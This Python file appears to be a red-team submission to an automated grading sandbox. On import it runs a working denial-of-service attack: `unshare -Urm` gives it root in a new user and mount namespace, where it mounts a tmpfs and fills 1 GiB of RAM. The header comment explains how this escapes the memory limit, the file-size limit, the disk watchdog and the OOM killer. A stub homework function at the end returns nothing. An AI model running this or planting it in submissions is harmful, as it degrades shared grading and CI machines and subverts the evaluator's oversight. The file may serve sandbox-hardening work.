# Attack (denial of service): takes the grading machine's memory without any sandbox limit
# seeing it. Graded as root (CI, or an instructor following the README's "or grade as root"),
# bwrap gives the kernel no user namespace of its own and so cannot forbid it to make one: with
# `unshare -Urm` it becomes root of a new user and mount namespace and mounts a tmpfs there.
# Files in that tmpfs live in RAM (no swap here) and belong to no process: the memory limit
# (address space per process), the file-size limit (each file <= 64 MB) and the disk watchdog
# (which looks at the scratch folders) all miss them, and the OOM killer, which picks the
# process with the most memory, never picks the one holding them. Bounded here at 1 GiB, held
# for a few seconds; it prints what the machine lost.
import subprocess

_SCRIPT = """
avail() { awk '/MemAvailable/ {print int($2/1024)}' /proc/meminfo; }
before=$(avail)
mount -t tmpfs -o size=2g none /etc/fonts || exit 1
i=0; while [ $i -lt 16 ]; do head -c 67108864 /dev/zero > /etc/fonts/f$i || exit 1; i=$((i+1)); done
echo "machine memory available: $before MB before, $(avail) MB with the tmpfs filled"
sleep 5
"""
try:
    print(subprocess.run(["unshare", "-Urm", "sh", "-c", _SCRIPT], capture_output=True, text=True,
                         timeout=50).stdout)
except Exception as error:  # noqa: BLE001
    print("refused:", error)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
